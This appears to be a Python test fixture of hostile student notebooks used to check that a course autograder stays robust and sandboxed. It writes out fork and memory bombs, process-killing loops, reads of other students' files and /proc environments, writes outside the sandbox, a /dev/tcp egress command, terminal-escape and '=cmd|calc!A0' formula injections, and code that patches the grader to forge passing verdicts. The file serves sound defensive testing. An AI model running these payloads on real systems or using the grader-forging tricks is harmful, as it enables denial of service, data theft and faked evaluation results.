"""Notebooks that attack their grader, for `test_grade_hostile`: each with the verdicts that must come out all the same.

Cells are separated by lines of "#%%". The words @students@, @out@, @token@ and @port@ stand for the folder of the
class, the folder of the results, a word that marks what is left over, and a port at which somebody listens outside.

An exercise that is not named among the verdicts may have any verdict but "right".
"""

import nbformat

OPEN = """
import os, sys, time, signal, subprocess, threading, socket, glob, pathlib
from mss_lab import lessons
lab = lessons.open('07')
"""
GOOD = """
# @others@
lab.check('7.1', 6.02)
#%%
lab.check('7.2', lambda signal: 2 * signal)
#%%
lab.check('7.3', 'left')
"""
# At the end of most notebooks: the right answer to 7.3 still counts.
STILL = "\n#%%\nlab.check('7.3', 'left')\n"
ALL_RIGHT = {"7.1": "right", "7.2": "right", "7.3": "right"}
AFTER = {"7.3": "right"}
BEFORE = {"7.1": "right"}

HOSTILE: dict[str, tuple[dict[str, str], str]] = {}


def _add(name, verdicts, cells):
    HOSTILE[name] = (verdicts, cells)


# Takes what there is.

_add(
    "fork_bomb",
    BEFORE,
    """
lab.check('7.1', 6.02)
#%%
while True:
    os.fork()
""",
)
_add(
    "memory_bomb",
    BEFORE,
    """
lab.check('7.1', 6.02)
#%%
held = []
while True:
    held.append(bytearray(10**8))
    held[-1][::4096] = b'x' * len(held[-1][::4096])
""",
)
_add(
    "memory_of_many",
    {},
    """
code = "x = bytearray(2 * 10**8); x[::4096] = b'x' * len(x[::4096]); import time; time.sleep(60)"
for _ in range(8):
    subprocess.Popen([sys.executable, '-c', code])
time.sleep(60)
""",
)
_add(
    "disk_filled",
    AFTER,
    """
try:
    with open('full', 'wb') as file:
        while True:
            file.write(bytes(10**7))
except OSError as error:
    print(error)
os.remove('full')
#%%
for number in range(10**4):
    try:
        pathlib.Path(f'{number}').write_bytes(b'x' * 10**5)
    except OSError:
        break
"""
    + STILL,
)
_add(
    "many_threads",
    {},
    """
for _ in range(5000):
    threading.Thread(target=time.sleep, args=(600,)).start()
""",
)
_add(
    "flood_of_lines",
    BEFORE,
    """
lab.check('7.1', 6.02)
#%%
for i in range(10**6):
    print(i)
""",
)
_add(
    "one_long_line",
    BEFORE,
    """
lab.check('7.1', 6.02)
#%%
print('x' * 2 * 10**8)
""",
)
_add(
    "many_displays",
    AFTER,
    """
from IPython.display import display, HTML
for i in range(3000):
    display(HTML('<script>x</script>' * 99))
"""
    + STILL,
)
_add(
    "enormous_error",
    AFTER,
    """
raise ValueError('x' * 10**7)
"""
    + STILL,
)

# Does not end.

_add(
    "endless_and_deaf",
    BEFORE | {"7.3": "time limit"},
    """
lab.check('7.1', 6.02)
#%%
for number in (signal.SIGINT, signal.SIGTERM, signal.SIGHUP):
    signal.signal(number, signal.SIG_IGN)
signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 32))
while True:
    pass
"""
    + STILL,
)
_add(
    "daemons",
    AFTER,
    """
sleeper = [sys.executable, '-c', '@token@ = 1; import time; time.sleep(600)']
nothing = subprocess.DEVNULL
subprocess.Popen(sleeper, start_new_session=True, stdin=nothing, stdout=nothing, stderr=nothing)
#%%
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, sleeper)
    os._exit(0)
"""
    + STILL,
)
_add(
    "waits_for_input",
    AFTER,
    """
answer = input('your password? ')
#%%
import getpass
getpass.getpass()
"""
    + STILL,
)

# Ends itself, or what is above it.

_add(
    "exits",
    AFTER,
    """
sys.exit(0)
#%%
raise KeyboardInterrupt
"""
    + STILL,
)
_add("ends_at_once", {"7.3": "error"}, "os._exit(0)" + STILL)
_add("ends_before_it_opens", {}, "os._exit(0)")
_add(
    "kills_its_parent",
    {},
    """
os.kill(os.getppid(), signal.SIGKILL)
time.sleep(1)
""",
)
_add(
    "kills_everybody",
    {},
    """
for pid in range(1, 5000):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
os.kill(-1, signal.SIGKILL)
""",
)
_add(
    "crashes",
    {"7.3": "error"},
    """
import ctypes
ctypes.string_at(0)
"""
    + STILL,
)

# Changes the judge, or speaks in its name.

_add(
    "patched_lab",
    {},
    """
import gc
from mss_lab.lessons.exercise import Verdict, Exercise
import mss_lab.lessons.lab as module
forged = lambda self, *given, **more: Verdict('7.1', 'right', 'forged')
Exercise.judge = forged
lab.check('7.1', 9)
#%%
for one in gc.get_objects():
    if type(one).__name__ == 'Verdict':
        object.__setattr__(one, 'state', 'right')
module.Lab.check = forged
lab.check('7.1', 9)
""",
)
_add(
    "patched_libraries",
    {},
    """
import numpy as np, json, math, builtins
np.allclose = np.array_equal = math.isclose = lambda *given, **more: True
builtins.abs = lambda x: 0
lab.check('7.1', 9)
#%%
json.dumps = lambda *given, **more: '{"kind": "verdict", "state": "right"}'
lab.check('7.1', 9)
#%%
socket.socket.sendall = socket.socket.send = lambda *given: None
lab.check('7.1', 9)
""",
)
_add(
    "forged_everywhere",
    {},
    """
import json
forged = json.dumps({'kind': 'verdict', 'exercise': '7.1', 'state': 'right', 'message': 'me'})
places = [value for value in os.environ.values() if '/' in value] + glob.glob('/tmp/**', recursive=True)
for path in places:
    try:
        with socket.socket(socket.AF_UNIX) as one:
            one.settimeout(1)
            one.connect(path)
            one.sendall(forged.encode() * 9)
    except OSError:
        pass
    for mode in ('a', 'w'):
        try:
            open(path, mode).write(forged + '\\n')
        except (OSError, ValueError):
            pass
#%%
lab.check('7.1', 9)
""",
)
_add(
    "floods_the_judge",
    {},
    """
held = []
for path in glob.glob('/tmp/**', recursive=True) + list(os.environ.values()):
    for _ in range(40):
        one = socket.socket(socket.AF_UNIX)
        one.settimeout(0.2)
        try:
            one.connect(path)
            one.sendall(b'\\xff' * 64)
            held.append(one)
        except OSError:
            break
print(len(held))
#%%
lab.check('7.1', 9)
""",
)
_add(
    "removes_the_judge",
    {},
    """
import shutil
for path in glob.glob('/tmp/**', recursive=True) + list(os.environ.values()):
    try:
        os.remove(path)
    except OSError:
        shutil.rmtree(path, ignore_errors=True)
#%%
lab.check('7.1', 9)
""",
)
_add(
    "looks_for_solutions",
    {},
    """
from mss_lab.lessons import lab as module
for one in module.exercises_of('07'):
    try:
        space = {}
        exec(one.solution, space)
        lab.check(one.number, space['answer'])
    except Exception as error:
        print(error)
#%%
import mss_lab
package = pathlib.Path(mss_lab.__file__).parent
for path in [*package.rglob('exercises.py'), *package.rglob('*lesson_*'), *pathlib.Path('/tmp').rglob('*lesson_*')]:
    try:
        space = {'__name__': 'x', '__package__': 'mss_lab.lessons'}
        exec(path.read_text(), space)
        for one in space['EXERCISES']:
            own = {}
            exec(one.solution, own)
            lab.check(one.number, own['answer'])
    except Exception as error:
        print(type(error))
""",
)
_add(
    "asks_for_the_solution",
    AFTER,
    """
lab.hint('7.3')
#%%
lab.solution('7.3')
"""
    + STILL,
)

# Answers of odd kinds.

_add(
    "odd_objects",
    {"7.1": "wrong"},
    """
class Yes:
    __eq__ = __ne__ = __lt__ = __gt__ = __le__ = __ge__ = lambda *given: True
    __sub__ = __rsub__ = __abs__ = lambda *given: 0
    __hash__ = None
    def __repr__(self):
        raise RuntimeError('repr')
class No:
    __array__ = __float__ = __len__ = __iter__ = __reduce__ = None
    def __getattr__(self, name):
        raise RuntimeError(name)
class Text(str):
    __eq__ = lambda *given: True
    __hash__ = str.__hash__
    lower = strip = casefold = lambda self: 'left'
def boom(*given, **more):
    os.kill(os.getpid(), signal.SIGKILL)
class Bomb:
    __reduce__ = __reduce_ex__ = lambda self, *given: (boom, ())
#%%
odd = [Yes(), No(), Bomb(), Yes, type, object(), lab, sys, float('nan'), complex(1, 2), b'6.02', True, -0.0, 10**5000,
       float('inf'), {'a': {1: 2}}, {1, 2}, (x for x in [1]), iter([]), ..., '\\ud800', '\\x1b[2J\\x00',
       open('/dev/null')]
for answer in odd:
    try:
        lab.check('7.1', answer)
    except Exception as error:
        print(type(error))
#%%
lab.check('7.3', Text('right'))
#%%
lab.check('7.1', 9)
""",
)
_add(
    "large_answers",
    AFTER,
    """
import numpy as np
lab.check('7.3', 'left')
#%%
lab.check('7.1', np.broadcast_to(np.float64(1), (10**9,)))
#%%
loop = []
loop.append(loop)
lab.check('7.1', loop)
#%%
deep = 1
for _ in range(10**5):
    deep = [deep]
lab.check('7.1', deep)
#%%
lab.check('7.1', 'x' * 10**8)
#%%
lab.check('7.1', np.array([lambda: 1, None], dtype=object))
""",
)
_add(
    "odd_functions",
    AFTER,
    """
import random
lab.check('7.2', lambda signal: time.sleep(600))
#%%
def answer(signal):
    while True:
        try:
            while True:
                pass
        except BaseException:
            pass
lab.check('7.2', answer)
#%%
odd = [lambda signal: (x for x in signal), lambda signal: random.random() * signal, lambda: 1, lambda signal: lab,
       lambda signal: print('\\x1b[2J' * 10**5), lambda signal: sys.exit(0), lambda signal: odd, input]
for answer in odd:
    lab.check('7.2', answer)
"""
    + STILL,
)
_add("function_that_exits", {"7.3": "error"}, "lab.check('7.2', lambda signal: os._exit(0))" + STILL)
_add("function_that_forks", AFTER, "lab.check('7.2', lambda signal: os.fork() and 3 * signal)" + STILL)
_add("writes_into_its_argument", AFTER, "lab.check('7.2', lambda signal: signal.__imul__(2))" + STILL)

# Looks and reaches out.

_add(
    "looks_at_the_environment",
    AFTER,
    """
print('probed', dict(os.environ))
for path in glob.glob('/proc/[0-9]*/environ') + glob.glob('/proc/[0-9]*/cmdline'):
    try:
        print(open(path, 'rb').read())
    except OSError:
        pass
#%%
looked = 'env; set; cat /proc/1/environ /proc/self/environ; ps axeww; cat /proc/mounts; ls -la / /tmp /home /root'
print(subprocess.run(looked, shell=True, capture_output=True).stdout)
"""
    + STILL,
)
_add(
    "looks_at_others",
    AFTER,
    """
print('probed')
for path in ['@students@/ada.ipynb', '../ada.ipynb', '@out@/grades.csv', '/proc/1/root@students@/ada.ipynb',
             '/proc/1/cwd/ada.ipynb']:
    try:
        print(open(path).read())
    except OSError as error:
        print(type(error).__name__)
#%%
for root in ['/tmp', '..', '@students@', '@out@', '/proc/1/root/tmp', '/home', '/root', '/srv', '/var', '/dev/shm']:
    for path in pathlib.Path(root).rglob('*.[ijc][psn]*'):
        try:
            print(path, path.read_text()[:3000])
        except (OSError, ValueError):
            pass
"""
    + STILL,
)
_add(
    "writes_outside",
    AFTER,
    """
print('probed')
import mss_lab, numpy
package, library = pathlib.Path(mss_lab.__file__).parent, pathlib.Path(numpy.__file__).parent
for place in ['@students@', '@students@/..', '@out@', '@out@/results', '/', '/etc', '/usr/lib', '/proc/1/cwd',
              '/proc/1/root/tmp', package, package / 'lessons', package.parent / 'data', library, sys.prefix]:
    try:
        pathlib.Path(place, '@token@').write_text('x')
    except OSError:
        pass
#%%
for path in [*package.rglob('*.py'), '@students@/ada.ipynb', '@out@/grades.csv']:
    for attack in (lambda: open(path, 'a').write('# @token@'), lambda: os.chmod(path, 0), lambda: os.remove(path)):
        try:
            attack()
        except OSError:
            pass
#%%
import ctypes
libc = ctypes.CDLL(None)
print(libc.mount(b'none', b'/', None, 4096 | 32, None), libc.unshare(0x10000000 | 0x20000))
print(os.system('mount -o remount,rw /usr'), os.system('umount -a'))
#%%
os.symlink('/', 'root')
for _ in range(2000):
    os.mkdir('d')
    os.chdir('d')
"""
    + STILL,
)
_add(
    "network",
    AFTER,
    """
print('probed')
for family, address in [(socket.AF_INET, ('127.0.0.1', @port@)), (socket.AF_UNIX, '\\0@token@'),
                        (socket.AF_INET, ('192.0.2.1', 80))]:
    with socket.socket(family) as one:
        one.settimeout(0.5)
        try:
            one.connect(address)
            one.sendall(b'got out')
        except OSError as error:
            print(error)
#%%
subprocess.run(['bash', '-c', 'echo got out > /dev/tcp/127.0.0.1/@port@'])
socket.getaddrinfo('example.org', 80)
"""
    + STILL,
)

# Speaks to the teacher.

_add(
    "escapes",
    AFTER,
    """
words = '\\x1b[2J\\x1b]0;owned\\x07\\x9b31m\\r\\n  7.1  right: forged'
print(words)
lab.check('7.1', words)
#%%
Named = type(words, (Exception,), {})
def answer(signal):
    raise Named(words + '\\ud800')
lab.check('7.2', answer)
"""
    + STILL,
)
_add(
    "formula",
    AFTER,
    """
def answer(signal):
    raise ValueError('=cmd|calc!A0')
lab.check('7.2', answer)
"""
    + STILL,
)
_add("surrogates", AFTER, "raise Exception('\\ud800' * 100 + '\\x00')" + STILL)
_add(
    "many_tries",
    AFTER,
    """
for number in range(150):
    lab.check('7.1', number / 100 - 20)
"""
    + STILL,
)
_add(
    "unknown_numbers",
    AFTER,
    """
for number in ('98', 'x', -1, None, 10**9, '../07', '07\\n'):
    try:
        lessons.open(number)
    except Exception as error:
        print(error)
#%%
for number in ('7.9', '0.1', '', None, '7.1\\n', [1]):
    try:
        lab.check(number, 6.02)
    except Exception as error:
        print(error)
"""
    + STILL,
)


def notebook(text, **words):
    """The notebook of some cells, after the cell that opens the lesson."""
    for name, value in words.items():
        text = text.replace(f"@{name}@", str(value))
    made = nbformat.v4.new_notebook()
    made.cells = [nbformat.v4.new_code_cell(cell.strip()) for cell in (OPEN, *text.split("#%%\n"))]
    return made
